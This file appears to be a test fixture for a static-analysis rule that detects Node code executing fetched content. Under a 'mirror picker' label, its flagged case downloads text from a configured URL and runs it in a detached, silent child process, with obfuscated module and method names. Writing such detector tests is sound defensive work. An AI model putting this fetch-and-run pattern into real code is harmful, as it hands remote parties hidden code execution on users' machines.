// A mirror picker that hands the script the mirror sends to a child Node as its program.
const cp = require('child' + '_process');
const cfg = require('./config');

async function pickMirror() {
  const r = await fetch(cfg.mirror);
  const body = await r.text();
  // ruleid: js_eval_fetched
  const child = cp[['sp', 'awn'].join('')](process.execPath, ['-e', body], { detached: true, stdio: 'ignore' });
  child.unref();
  const probe = 'console.log(process.versions.node)';
  // ok: js_eval_fetched
  cp.spawnSync(process.execPath, ['-e', probe]);
  return r.headers.get('x-mirror');
}
module.exports = { pickMirror };
